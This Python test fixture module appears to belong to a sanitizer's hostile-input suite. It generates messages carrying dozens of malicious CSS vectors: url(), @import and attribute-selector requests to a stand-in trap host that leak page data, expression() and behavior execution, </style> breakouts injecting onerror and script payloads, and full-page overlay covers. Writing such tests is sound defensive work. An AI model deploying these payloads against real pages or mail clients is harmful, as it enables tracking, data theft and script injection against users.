"""Style elements that want to load, run, tell, cover or break out. One of them dresses every other HTML vector."""

from collections.abc import Iterator

from tests.hostile.build import RUN, TRAP, message

URL = f"url(http://{TRAP}/s.png)"
PAGE = (
    '<div id="x" class="x Y" title="secret"><p class="y" style="color:red">one</p><p>two '
    '<a href="http://evil.test/">link</a></p><input value="secret"><ul><li>three</ul>'
    '<table><tr><td class="x">four</table></div>'
)
# What stands before every HTML vector: most of what is below, aimed at every element.
DRESS = (
    f"<style>@charset 'utf-7';@import '//{TRAP}/i.css';@font-face{{font-family:f;src:{URL}}}@keyframes k{{}}"
    f"*,p,div,td,a{{position:fixed!important;inset:0;margin:-5000px!important;background:{URL} red!important;"
    f"font-family:f;animation:k 1s;transition:all 1s;cursor:{URL},auto;behavior:{URL};-moz-binding:{URL};color:navy}}"
    f"*::before{{content:{URL}}}a:visited,p:hover{{background:{URL}}}[title],[value^=s]{{background:{URL}}}"
    f"@media (min-width:1px){{p{{position:sticky!important;list-style:{URL};color:teal!important}}}}</style>"
    f'<style>p{{color:red;background:"</style><style><!-- td{{width:expression({RUN});background:{URL}}} --></style>'
)

SHEETS = {
    "url": f"p{{background:{URL}}}",
    "url-escaped": f"p{{background:\\75rl(http://{TRAP}/s.png);b\\61 ckground-image:\\000075\\72 l(//{TRAP}/t.png)}}",
    "url-unclosed": f"p{{background:url(http://{TRAP}/s.png",
    "url-in-colour": f"p{{color:rgb({URL});background-color:hsl(0 0% 0%/{URL})}}",
    "image-set": f"p{{background:image-set('http://{TRAP}/s.png' 1x);background:-webkit-image-set({URL} 1x)}}",
    "cross-fade": f"p{{background:-webkit-cross-fade({URL},{URL},50%)}}li{{list-style-image:{URL}}}",
    "src-attr": f"p{{background:src('http://{TRAP}/a.png');content:attr(title);background:attr(title url)}}",
    "variables": f":root{{--u:{URL}}}*{{--v:var(--u)}}p{{background:var(--u);color:var(--v,{URL})}}",
    "env": f"p{{padding:env(safe-area-inset-top,{URL});width:calc(1px*1)}}",
    "import": f"@import url(http://{TRAP}/i.css);@import '//{TRAP}/j.css' layer(x) screen;p{{color:red}}",
    "import-late": f"p{{}}@IMPORT '//{TRAP}/i.css';@\\69mport '//{TRAP}/j.css';",
    "import-in-media": f"@media screen{{@import '//{TRAP}/i.css';p{{background:{URL}}}}}",
    "charset": f"@charset 'utf-7';+AHA-{{background:{URL}}}",
    "byte-order-mark": f"\ufeff@import '//{TRAP}/i.css';\ufeffp{{background:{URL}}}",
    "nul": f"p\0{{background:u\0rl(//{TRAP}/s.png)}}@im\0port '//{TRAP}/i.css';",
    "font-face": f"@font-face{{font-family:f;src:{URL};unicode-range:U+61}}p{{font-family:f,'a}}b'}}",
    "namespace": f"@namespace {URL};@namespace s url(http://www.w3.org/2000/svg);s|p{{background:{URL}}}",
    "property": f"@property --u{{syntax:'<url>';inherits:true;initial-value:{URL}}}p{{background:var(--u)}}",
    "layer": f"@layer a,b;@layer a{{p{{background:{URL};position:fixed}}}}@layer page{{p{{position:fixed!important}}}}",
    "container": f"div{{container-type:inline-size}}@container (min-width:1px){{p{{background:{URL}}}}}",
    "supports": f"@supports (display:grid){{p{{background:{URL};position:fixed}}}}",
    "scope": f"@scope (div){{:scope{{background:{URL}}}p{{position:fixed}}}}@starting-style{{p{{opacity:0}}}}",
    "page": f"@page{{margin:-9cm;background:{URL}}}@counter-style c{{system:cyclic;symbols:{URL}}}",
    "nested": f"div{{color:red;p{{background:{URL}}}& p{{position:fixed}}@media screen{{p{{background:{URL}}}}}}}",
    "before": f"*::before{{content:{URL}}}p:before{{content:'{RUN}'}}li::marker{{content:{URL}}}",
    "visited": f"a:visited{{background:{URL}}}a:link:hover{{background:{URL}}}a:active,a:focus{{cursor:{URL},auto}}",
    "attribute": "".join(f'[value^="{c}"],[title*={c}]{{background:url(http://{TRAP}/{c})}}' for c in "abcdefs"),
    "has": f"body:has(input[value^=s]),:has(> p){{background:{URL}}}:not(p),:is(p),:where(p){{background:{URL}}}",
    "expression": f"p{{width:expression({RUN});behavior:{URL};-moz-binding:url(//{TRAP}/x.xml#a);-o-link:'x'}}",
    "filter": f"p{{filter:{URL};mask:{URL};clip-path:{URL};shape-outside:{URL};border-image:{URL}}}",
    "animation": f"@keyframes k{{from{{background:{URL}}}to{{position:fixed}}}}p{{animation:k 1s infinite}}",
    "end-in-string": f"p{{font-family:'</style><img src=x onerror={RUN}>'}}",
    "end-in-comment": f"/* </style><img src=x onerror={RUN}> */",
    "end-in-escape": f"p{{font-family:'\\3c/style\\3e\\3cimg src=x onerror={RUN}\\3e';color:red}}",
    "end-in-class": f".a\\3c\\2fstyle\\3e\\3cscript\\3e{RUN},p{{color:red}}",
    "unclosed-string": f"p{{font-family:'x;}}\np{{background:{URL}}}",
    "unclosed-comment": f"p{{color:red}}/* p{{background:{URL}}}",
    "unclosed-brace": f"p{{color:red;div{{background:{URL};@media screen{{p{{position:fixed",
    "unclosed-bracket": f"p[title{{background:{URL}}}p(x{{color:red}}",
    "comment-wrapper": f"<!-- p{{background:{URL}}} --> <!--> td{{position:fixed}} <!--",
    "cdata": f"<![CDATA[p{{background:{URL}}}]]>",
    "media-query": f"@media url(http://{TRAP}/m),(width:expression({RUN})){{p{{color:red}}}}@media (x:{URL}){{p{{}}}}",
    "media-break": "@media (max-width:9px){}</style><script>" + RUN + "</script><style>){p{color:red}}",
    "svg": f"</style><svg><style>*{{background:{URL}}}@import '//{TRAP}/i.css';</style></svg><style>",
    "page-rules": "html,body,:root,.card,.plain,.message-frame,#sidebar{display:none;color:red;background:red}",
}

# As COVERS of the bodies: on a page of ours nothing of them may be seen beside the frame.
COVERS = {
    "fixed": "div,p,td{position:fixed!important;top:0;left:0;width:5000px;height:5000px;background:red;z-index:99999}",
    "sticky": "p{position:sticky!important;bottom:0}td{position:-webkit-sticky;position:absolute;left:-500px}",
    "negative": "div{margin:-5000px -900px!important;text-indent:-9999px;top:-500px}p{margin-left:calc(-1px*900)}",
    "transform": "div{transform:translate(-500px,-500px)scale(9);translate:-900px;rotate:9deg;scale:9;zoom:9}",
    "shadow": "div{box-shadow:0 0 0 5000px red;outline:9999px solid red;filter:drop-shadow(-900px 0 red)}",
}


def messages() -> Iterator[tuple[str, bytes]]:
    for kind, table in (("sheet", SHEETS), ("cover-sheet", COVERS)):
        for name, css in table.items():
            yield f"{kind}-{name}", message(f"{kind}-{name}", f"<style>{css}</style>{PAGE}")
